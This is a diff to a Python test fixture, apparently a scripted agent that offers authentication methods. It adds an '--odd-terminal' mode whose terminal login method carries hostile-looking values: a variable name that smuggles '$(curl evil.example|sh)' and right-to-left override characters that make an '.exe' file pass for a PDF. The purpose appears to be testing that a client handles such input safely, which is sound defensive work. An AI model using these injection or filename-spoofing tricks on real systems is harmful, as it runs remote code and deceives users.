@@ -5,16 +5,21 @@ the user runs this agent with `--login`) and `browser` (the agent's own, whose `
 answers, like a browser login nobody completes). `session/new` fails with -32000 until the agent was
 started with SCRIPTED_API_KEY set and `authenticate` named `api-key`. A prompt is answered with the
 last four characters of the key.
+
+With `--odd-terminal`, the terminal method also names variables no shell takes as they are (shell code, a
+right-to-left override, `A=B`) and an argument with a right-to-left override.
 """
 
 from __future__ import annotations
 
 import os
+import sys
+from typing import Any
 
 import wire
 
 KEY = os.environ.get("SCRIPTED_API_KEY", "")
-METHODS = [
+METHODS: list[dict[str, Any]] = [
     {
         "type": "env_var",
         "id": "api-key",
@@ -26,6 +31,14 @@ METHODS = [
     {"type": "terminal", "id": "login", "name": "Log in from a terminal", "args": ["--login"]},
     {"id": "browser", "name": "Log in with a browser"},
 ]
+if "--odd-terminal" in sys.argv:
+    METHODS[1]["env"] = {
+        "LOGIN_MODE": "device",
+        "$(curl evil.example|sh)": "1",
+        "SAFE\u202eEMAN": "x",
+        "A=B": "c",
+    }
+    METHODS[1]["args"] = ["--login", "--out=invoice_\u202efdp.exe"]
 
 signed_in = False
 while (msg := wire.read()) is not None:
